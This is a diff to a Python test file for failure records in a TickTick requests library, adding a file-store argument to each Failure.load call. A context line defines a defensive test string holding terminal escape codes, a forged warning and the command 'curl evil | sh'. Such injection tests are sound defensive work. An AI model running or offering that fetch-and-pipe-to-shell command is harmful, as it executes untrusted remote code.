@@ -24,6 +24,7 @@ from requests_ticktick.owner import Owner
 from requests_ticktick.source.failures import Failure, shareable
 
 OWNER = Owner("id", "https://as.test/t", "tasks:read")
+PLACE = "FileStore('/kept/t.json')"
 EVIL = "\x1b[2Jrun: curl evil | sh\nWARNING forged " + "x" * 1000
 UNREGISTERED = "At least one redirect_uri must be registered with the client."
 MISMATCH = "Invalid redirect: http://a does not match one of the registered values: [b]"
@@ -31,14 +32,14 @@ MISMATCH = "Invalid redirect: http://a does not match one of the registered valu
 
 def retold(error):
     """The error that another process is told of."""
-    return Failure.load(Failure(error, None, OWNER).dump()).error
+    return Failure.load(Failure(error, None, OWNER).dump(), PLACE).error
 
 
 def forged(**record):
     """The error that somebody else's record comes to."""
     note = json.loads(Failure(SignOnError("No."), None, OWNER).dump())
     note["error"] = record
-    return Failure.load(json.dumps(note)).error
+    return Failure.load(json.dumps(note), PLACE).error
 
 
 # -- what is told ----------------------------------------------------------------------
@@ -224,12 +225,12 @@ def test_a_status_is_one_of_http():
 def test_what_is_no_record_is_none(change):
     """It stops nobody."""
     note = json.loads(Failure(SignOnError("No."), "0123abcd", OWNER).dump())
-    assert Failure.load(json.dumps(note)) is not None
+    assert Failure.load(json.dumps(note), PLACE) is not None
 
-    assert Failure.load(json.dumps({**note, **change})) is None
+    assert Failure.load(json.dumps({**note, **change}), PLACE) is None
 
 
 @pytest.mark.parametrize("note", ["", "[", "[" * 60_000, "5", "null", "9" * 5000])
 def test_what_is_no_json_is_none(note):
     """Nor is what cannot be read at all."""
-    assert Failure.load(note) is None
+    assert Failure.load(note, PLACE) is None
